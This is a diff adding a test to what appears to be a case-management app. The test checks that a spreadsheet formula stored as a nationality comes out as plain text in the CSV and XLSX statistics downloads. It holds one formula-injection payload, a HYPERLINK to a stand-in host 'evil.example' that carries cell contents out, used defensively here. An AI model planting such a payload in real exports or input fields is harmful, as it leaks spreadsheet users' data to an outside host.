@@ -120,3 +120,39 @@ def test_an_organisation_without_cases_has_empty_statistics(org_a, today):
     with scope(organisation=org_a):
         stats = waiting_statistics(org_a.pk, as_of=today)
     assert (stats.cases, stats.by_procedure, stats.by_month, stats.backlog) == (0, [], [], [])
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+def test_a_formula_typed_as_a_nationality_is_plain_text_in_both_downloads(
+    make_case, make_person, coordinator_a, login_as, settings, today
+):
+    # Six cases, above the threshold, so the group is shown: stored before the form refused it.
+    settings.DISCLOSURE_THRESHOLD = 5
+    for _ in range(6):
+        person = make_person(given_name_latin="Sara", nationality=FORMULA)
+        make_case(person=person, registered_on=today - dt.timedelta(days=30))
+    client = login_as(coordinator_a)
+    session = client.session
+    session[REAUTH_SESSION_KEY] = time.time()
+    session.save()
+
+    rows = list(
+        csv.reader(io.StringIO(client.get("/cases/statistics/waiting-times.csv").content.decode()))
+    )
+    (row,) = [r for r in rows if r[0] == "nationality"]
+    assert row[1:3] == ["'" + FORMULA, "6"]
+
+    content = client.get("/cases/statistics/waiting-times.xlsx").content
+    sheet = load_workbook(io.BytesIO(content)).active
+    (cell,) = [c for c in sheet["B"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert (cell.value, cell.data_type) == ("'" + FORMULA, "s")
+    assert b"<f>" not in _sheet_xml(content)
+
+
+def _sheet_xml(content: bytes) -> bytes:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return archive.read("xl/worksheets/sheet1.xml")
